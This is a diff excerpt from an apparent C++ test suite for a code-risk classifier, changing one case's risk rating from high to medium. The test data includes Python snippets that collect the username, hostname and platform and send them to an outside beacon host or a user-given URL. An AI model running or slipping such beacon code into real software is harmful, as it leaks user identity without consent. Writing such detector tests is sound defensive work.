@@ -78,7 +78,7 @@ TEST(RubricClasses, ValuesAndProvenanceAcrossCalls) {
        "info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'o': platform.platform()}\n"
        "urllib.request.urlopen('http://beacon.example-analytics.xyz/b?' + urllib.parse.urlencode(info))\n",
        "IDENTITY-BEACON"},
-      {"user and host to a URL the user gave", RiskLevel::high,
+      {"user and host to a URL the user gave", RiskLevel::medium,
        "import getpass, socket, sys, requests\nrequests.post(sys.argv[1], json={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
        "HOST-IDENTITY-SENT"},
   };
